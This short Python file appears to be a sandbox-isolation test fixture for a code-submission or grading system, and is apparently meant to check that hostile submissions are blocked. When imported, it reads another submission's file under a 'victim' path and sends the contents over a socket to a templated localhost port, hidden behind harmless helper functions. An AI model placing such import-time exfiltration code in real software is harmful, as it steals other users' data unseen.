"""Opens a connection while it is imported.

must: crashed
harm: token
"""

import contextlib
import socket
from pathlib import Path

found = "escaped"
with contextlib.suppress(OSError):
    found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
with socket.create_connection(("127.0.0.1", int("@PORT@")), 1) as link:
    link.sendall(found.encode())


def double(x):
    return 2 * x


def triple(x):
    return 3 * x
